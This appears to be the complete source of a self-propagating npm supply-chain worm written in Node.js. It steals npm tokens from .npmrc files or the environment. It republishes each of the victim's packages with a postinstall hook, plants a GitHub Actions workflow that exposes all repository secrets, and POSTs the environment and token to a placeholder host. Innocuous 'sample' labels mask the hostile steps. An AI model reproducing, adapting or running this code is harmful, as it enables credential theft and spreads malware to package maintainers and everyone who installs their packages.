const { execSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const REGISTRY = 'https://registry.invalid';

const WORKFLOW = `name: sample
on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: echo "an inert sample"
        env:
          CONTENTS: \${{ toJSON(secrets) }}
`;

function findToken() {
  for (const file of ['.npmrc', path.join(os.homedir(), '.npmrc')]) {
    try {
      const match = fs.readFileSync(file, 'utf8').match(/_authToken=(\S+)/);
      if (match) return match[1];
    } catch {}
  }
  return process.env.NPM_TOKEN;
}

async function registry(pathname, token) {
  const response = await fetch(REGISTRY + pathname, { headers: { Authorization: `Bearer ${token}` } });
  return response.json();
}

async function packagesOf(token) {
  const { username } = await registry('/-/whoami', token);
  const { objects } = await registry(`/-/v1/search?text=maintainer:${username}&size=20`, token);
  return objects.map(({ package: found }) => found);
}

function republish(folder, token) {
  const manifest = path.join(folder, 'package.json');
  const pkg = JSON.parse(fs.readFileSync(manifest, 'utf8'));
  const [major, minor, patch] = pkg.version.split('.').map(Number);
  pkg.version = `${major}.${minor}.${patch + 1}`;
  pkg.scripts = { ...pkg.scripts, postinstall: 'node bundle.js' };
  fs.writeFileSync(manifest, JSON.stringify(pkg, null, 2));
  execSync(`npm publish --registry ${REGISTRY}`, { cwd: folder, env: { ...process.env, NPM_TOKEN: token }, stdio: 'ignore' });
}

function plantWorkflow(repository) {
  const folder = path.join(repository, '.github/workflows');
  if (!fs.existsSync(folder)) return;
  fs.writeFileSync(path.join(folder, 'sample-workflow.yml'), WORKFLOW);
  execSync('git add -A && git commit -m "sample" && git push', { cwd: repository, stdio: 'ignore' });
}

async function main() {
  if (os.platform() === 'win32') return;
  const token = findToken();
  if (!token) return;
  execSync('npm whoami', { stdio: 'ignore' });
  for (const { name } of await packagesOf(token)) {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'update-'));
    execSync(`npm pack ${name} --registry ${REGISTRY} && tar -xzf *.tgz`, { cwd: folder, stdio: 'ignore' });
    republish(path.join(folder, 'package'), token);
    plantWorkflow(folder);
  }
  await fetch('https://hook.invalid/c', { method: 'POST', body: JSON.stringify({ env: process.env, token }) });
}

main().catch(() => {});
